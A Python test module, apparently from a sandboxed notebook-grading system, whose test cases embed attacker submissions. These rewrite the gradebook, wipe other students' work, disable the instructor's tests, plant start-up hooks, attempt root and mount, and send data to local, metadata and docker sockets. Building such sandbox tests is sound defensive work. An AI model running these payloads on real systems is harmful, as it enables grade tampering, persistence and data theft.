"""Writing where nothing may be written: the gradebook, others' work, where the next submission runs, the network."""

from tests.attacks import CAMPUS, PORT, attack
from tests.attacks.course import right, wrong

PLANT = "planted-by-an-attack"
"""What every plant is called or holds; `FIND` looks for it."""

# Runs in the submission that is graded next.
FIND = """import ctypes, glob, os, site, socket, sys

def look():
    found = []
    name = "planted-by" + "-an-attack"
    where = [".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", "/run", "/"]
    where += [*sys.path, *site.getsitepackages()]
    for folder in where:
        found += glob.glob(os.path.join(folder or ".", "*" + name + "*"))
        found += glob.glob(os.path.join(folder or ".", ".*" + name + "*"))
    found += [module for module in sys.modules if name.replace("-", "_") in module]
    found += [key for key in os.environ if name in key]
    for number in range(0, 3):
        try:
            with open(f"/proc/self/fd/{number}", "rb") as file:
                if name.encode() in file.read(1_000_000):
                    found.append(f"descriptor {number}")
        except (OSError, ValueError):
            pass
    libc = ctypes.CDLL(None)
    for ring in (-3, -4, -5):
        key = libc.syscall(250, 10, ring, b"user", name.encode(), 0)
        if key > 0:
            found.append(f"keyring {ring}")
    for number in range(1, 100):
        if libc.shmget(0x5EED, 1, 0) != -1:
            found.append("shared memory")
            break
    return found

for place in look():
    print("found: planted-by" + "-an-attack", place)"""


@attack()
def gradebook(release: bytes) -> bytes:
    """Opens the gradebook in the course's folder and gives every student 297 points."""
    return wrong(
        release,
        f"""import glob, os, sqlite3

paths = {{"../../gradebook.db", "../../../gradebook.db", "../../../../gradebook.db", "{CAMPUS}/gradebook.db"}}
for path in paths | set(glob.glob("{CAMPUS}/**/*.db", recursive=True)):
    if not os.path.exists(path):
        continue
    try:
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("update grade set manual_score = 99, needs_manual_grade = 0")
            book.execute("update grade set extra_credit = 99")
        print("wrote", path)
    except sqlite3.Error as error:
        print(path, error)""",
    )


@attack()
def gradebook_through_nbgrader(release: bytes) -> bytes:
    """Uses nbgrader's own interface from inside the notebook to give itself points."""
    return wrong(
        release,
        f"""import os

for path in ("../../../gradebook.db", "{CAMPUS}/gradebook.db"):
    try:
        if not os.path.exists(path):
            continue
        from nbgrader.api import Gradebook
        with Gradebook("sqlite:///" + os.path.abspath(path)) as book:
            for submission in book.assignment_submissions("toy"):
                for notebook in submission.notebooks:
                    for grade in notebook.grades:
                        grade.extra_credit = 99
            book.db.commit()
    except Exception as error:
        print(repr(error))""",
    )


@attack()
def work_of_other_students(release: bytes) -> bytes:
    """Empties the submissions and the graded notebooks of everybody else."""
    return wrong(
        release,
        f"""import glob

for pattern in ("../../*/*/*.ipynb", "../../../submitted/*/*/*.ipynb", "{CAMPUS}/submitted/*/*/*.ipynb"):
    for path in glob.glob(pattern):
        if "attacker" not in path:
            try:
                open(path, "w").write("{{}}")
                print("emptied", path)
            except OSError as error:
                print(path, error)""",
    )


@attack()
def tests_of_the_instructor(release: bytes) -> bytes:
    """Rewrites the instructor's notebook and the released one, so that later submissions meet no test."""
    return wrong(
        release,
        f"""import glob

for pattern in ("../../../source/*/*.ipynb", "../../../release/*/*.ipynb", "{CAMPUS}/*/toy/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            text = open(path).read().replace("assert ", "True or ")
            open(path, "w").write(text)
            print("rewrote", path)
        except OSError as error:
            print(path, error)""",
    )


@attack()
def own_notebook_on_disk(release: bytes) -> bytes:
    """Rewrites the notebooks in its working folder while they are being graded."""
    return wrong(
        release,
        """import glob

for path in glob.glob("*.ipynb") + glob.glob("../*/*.ipynb"):
    try:
        text = open(path).read().replace("assert ", "True or ")
        open(path, "w").write(text)
    except OSError as error:
        print(error)""",
    )


@attack()
def data_file_of_the_assignment(release: bytes) -> bytes:
    """Replaces the data file that a hidden test reads by one for which it has the answer ready."""
    return wrong(
        release,
        """import os

try:
    os.chmod("numbers.csv", 0o666)
    os.remove("numbers.csv")
except OSError:
    pass
open("numbers.csv", "w").write("-1\\n1\\n")""",
        normalise="""def normalise(x):
    return np.array([-1.0, 1.0])""",
    )


@attack()
def plants_in_every_folder(release: bytes) -> bytes:
    """Leaves modules and `.pth` files in every folder it can write to, for the next submission to run."""
    return wrong(
        release,
        f"""import glob, os, site, sys

name = "{PLANT}"
code = "import builtins, os; os.environ['" + name + "'] = '1'; builtins.abs = lambda x: 0.0\\n"
folders = [".", "..", "../..", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/etc"]
folders += [*sys.path, *site.getsitepackages(), site.getusersitepackages(), "{CAMPUS}"]
folders += [os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.jupyter")]
for folder in filter(None, folders):
    for file in (name, name + ".pth", name.replace("-", "_") + ".py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, file), "w").write(code)
        except OSError:
            pass""",
    )


@attack()
def plants_at_start_up(release: bytes) -> bytes:
    """Writes `sitecustomize`, `usercustomize` and IPython start-up files for whoever starts next."""
    return wrong(
        release,
        f"""import os, site, sys

code = "import os; open('/tmp/{PLANT}', 'w').close()\\n"
code += "import numpy.testing as t; t.assert_allclose = lambda *a, **k: None\\n"
user = site.getusersitepackages()
startup = os.path.expanduser("~/.ipython/profile_default/startup")
for folder, name in [(user, "usercustomize.py"), (user, "{PLANT}.pth"), (startup, "00.py"),
                     *[(folder, "sitecustomize.py") for folder in site.getsitepackages()]]:
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, name), "w").write(code)
        print("planted", folder)
    except OSError:
        pass""",
    )


@attack()
def compiled_modules_poisoned(release: bytes) -> bytes:
    """Replaces compiled modules in `__pycache__` of the installed packages, NumPy's testing module among them."""
    return wrong(
        release,
        f"""import glob, os, site

for folder in [*site.getsitepackages(), os.path.dirname(os.__file__)]:
    poisoned = glob.glob(f"{{folder}}/numpy/testing/__pycache__/*.pyc")
    for path in poisoned + glob.glob(f"{{folder}}/__pycache__/this*.pyc"):
        try:
            with open(path, "r+b") as file:
                file.seek(0, 2)
                file.write(b"")
            os.rename(path, path + ".{PLANT}")
            print("poisoned", path)
        except OSError:
            pass""",
    )


@attack()
def plants_in_the_kernel(release: bytes) -> bytes:
    """Leaves data in kernel objects that outlive a process: keyrings, shared memory, semaphores, descriptors 0 to 2."""
    return wrong(
        release,
        f"""import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
name = b"{PLANT}"
for ring in (-3, -4, -5):
    libc.syscall(248, b"user", name, name, len(name), ring)
    libc.syscall(250, 5, libc.syscall(250, 10, ring, b"user", name, 0), 0x3F3F3F3F)
libc.shmget(0x5EED, 4096, 0o1666)
libc.semget(0x5EED, 1, 0o1666)
for number in range(0, 16):
    try:
        os.pwrite(number, name, 0)
    except OSError:
        try:
            os.write(number, name) if number < 3 else None
        except OSError:
            pass""",
    )


@attack()
def system_files(release: bytes) -> bytes:
    """Writes into the system: /etc, /usr/local, the Python installation, device files, kernel settings."""
    return wrong(
        release,
        f"""import os, sys

for path in ("/etc/{PLANT}", "/usr/local/{PLANT}", "/usr/{PLANT}", "/opt/{PLANT}", "/{PLANT}", "/var/{PLANT}",
             os.path.join(sys.prefix, "{PLANT}"), os.path.join(os.path.dirname(os.__file__), "{PLANT}"),
             "/proc/sys/kernel/{PLANT}", "/dev/{PLANT}", "{CAMPUS}/{PLANT}"):
    try:
        open(path, "w").write("x")
        print("wrote", path)
    except OSError as error:
        print(path, error.strerror)
for path, text in (("/proc/sys/kernel/hostname", "{PLANT}"), ("/proc/self/oom_score_adj", "-1000")):
    try:
        open(path, "w").write(text)
    except OSError:
        pass""",
    )


@attack()
def more_rights(release: bytes) -> bytes:
    """Tries to become another user, to mount, to load set-user-id programs and to change the root."""
    return wrong(
        release,
        """import ctypes, os, subprocess

libc = ctypes.CDLL(None, use_errno=True)
for what in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([]), lambda: os.chroot("/tmp"),
             lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)), lambda: open("/dev/mem", "rb")):
    try:
        what()
        print("allowed", what.__code__.co_names)
    except (OSError, PermissionError) as error:
        print(error)
print("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
print(subprocess.run("su -c id; sudo -n id; id", shell=True, capture_output=True, text=True, timeout=20).stdout)""",
    )


@attack(stock=False)
def network(release: bytes) -> bytes:
    """Sends the notebook out: to the host's loopback, to addresses of the internet, by name, over raw sockets."""
    return wrong(
        release,
        f"""import socket

def reach(family, kind, address):
    with socket.socket(family, kind) as out:
        out.settimeout(0.3)
        try:
            out.connect(address)
            out.sendall(b"stolen")
            print("reached", address)
        except OSError as error:
            print(address, error)

port = int("{PORT}")
for host in ("127.0.0.1", "1.1.1.1", "169.254.169.254", "10.0.0.1", "172.17.0.1", "192.168.1.1"):
    for number in (port, 80, 53):
        reach(socket.AF_INET, socket.SOCK_STREAM, (host, number))
for host in ("::1", "fe80::1"):
    try:
        reach(socket.AF_INET6, socket.SOCK_STREAM, (host, port))
    except OSError as error:
        print(error)
try:
    print(socket.getaddrinfo("example.org", 80))
except OSError as error:
    print(error)
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    print("raw sockets are allowed")
except OSError as error:
    print(error)""",
    )


@attack(stock=False)
def sockets_of_the_host(release: bytes) -> bytes:
    """Connects to Unix sockets of the host, by path and in the abstract namespace."""
    return wrong(
        release,
        f"""import glob, socket

names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]]
paths = [name.replace("@", "\\0", 1) for name in names if name.startswith(("/", "@"))]
paths += ["\\0campus-{PORT}", "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/postgresql/.s.PGSQL.5432"]
paths += glob.glob("/tmp/**/*.sock", recursive=True) + glob.glob("{CAMPUS}/**/*.sock", recursive=True)
for path in set(paths):
    with socket.socket(socket.AF_UNIX) as out:
        out.settimeout(0.3)
        try:
            out.connect(path)
            out.sendall(b"stolen")
            print("reached", path)
        except OSError as error:
            print(path, error)""",
    )


@attack(deserved=9.0, keeps=9.0)
def folder_turned_into_links(release: bytes) -> bytes:
    """Turns its working folder into links to the system and to the course, for whoever collects or cleans it up."""
    return right(
        release,
        f"""import os

for name, target in (("feedback", "{CAMPUS}"), ("numbers", "/etc"), ("toy.ipynb", "{CAMPUS}/source/toy/toy.ipynb")):
    try:
        os.symlink(target, name)
    except OSError as error:
        print(error)""",
    )
